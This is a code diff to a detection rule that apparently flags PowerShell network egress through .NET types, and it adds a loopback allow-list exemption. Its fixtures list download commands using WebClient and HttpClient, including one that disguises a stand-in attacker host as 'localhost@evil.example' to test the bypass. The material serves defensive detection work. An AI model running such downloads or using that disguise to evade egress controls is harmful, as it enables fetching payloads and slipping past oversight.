@@ -1,5 +1,6 @@
 // egress.dotnet: PowerShell reaching the network through a .NET type rather than a cmdlet.
 import type { Finding } from '../types.js';
+import { compile } from './compiled.js';
 import type { Rule } from './rule.js';
 
 const PS = 'powershell' as const;
@@ -38,6 +39,8 @@ export const egressDotnet: Rule = {
       { command: '(New-Object System.Net.WebClient).DownloadString("https://example.com")', shell: PS },
       { command: '(New-Object Net.WebClient).DownloadFile("https://example.com/a", "a")', shell: PS },
       { command: '[System.Net.WebClient]::new().DownloadString("https://example.com")', shell: PS },
+      { command: "$wc = New-Object Net.WebClient; $wc.DownloadString('http://localhost:8080/')", shell: PS },
+      { command: "(New-Object Net.WebClient).DownloadString('http://localhost@evil.example/')", shell: PS },
       { command: '$c = [Net.Http.HttpClient]::new(); $c.GetStringAsync("https://example.com")', shell: PS },
       { command: '[System.Net.WebRequest]::Create("https://example.com").GetResponse()', shell: PS },
       { command: '[Net.HttpWebRequest]::Create("https://example.com")', shell: PS },
@@ -61,14 +64,19 @@ export const egressDotnet: Rule = {
       { command: '[DateTime]::Now', shell: PS },
       { command: 'Get-Help New-Object', shell: PS },
       { command: '[System.Uri]::new("https://example.com").Host', shell: PS },
+      { command: "(New-Object Net.WebClient).DownloadString('http://localhost:8080/')", shell: PS },
+      { command: "[Net.Http.HttpClient]::new().GetStringAsync('http://127.0.0.1:3000/health').Result", shell: PS },
       { command: '[Net.IPAddress]::Parse("10.0.0.1")', shell: PS },
       { command: "$x = New-Object Xml.XmlDocument; $x.Load('config.xml')", shell: PS },
       { command: "[xml](Get-Content app.config)", shell: PS },
       { command: '# [Net.WebClient]::new()', shell: PS },
     ],
   },
-  check({ analysis }) {
+  check({ analysis, config }) {
     const findings: Finding[] = [];
+    const { hosts } = compile(config);
+    // A client built and used once where its URI is static, every destination allowed (a dev server on loopback).
+    const allowedAt = (analysis.clientCalls ?? []).filter((c) => c.destinations.length > 0 && c.destinations.every((d) => d.host !== undefined && hosts.allows(d.host) !== undefined));
     for (const use of analysis.typeUses) {
       if (use.remote !== undefined) {
         const finding: Finding = { rule: 'egress.dotnet', kind: 'egress', message: `.${use.member ?? 'load'}(${use.remote}) fetches a document from another machine (.NET resolves the URL)`, span: use.span };
@@ -78,6 +86,7 @@ export const egressDotnet: Rule = {
       }
       const hit = networkType(use.type);
       if (hit === undefined) continue;
+      if (/^net\.(webclient|http\.httpclient)$/.test(hit) && allowedAt.some((c) => c.within.start <= use.span.start && use.span.end <= c.within.end)) continue;
       const how = use.member === undefined ? 'New-Object' : use.member === 'new' ? '::new()' : `::${use.member}`;
       const finding: Finding = {
         rule: 'egress.dotnet',
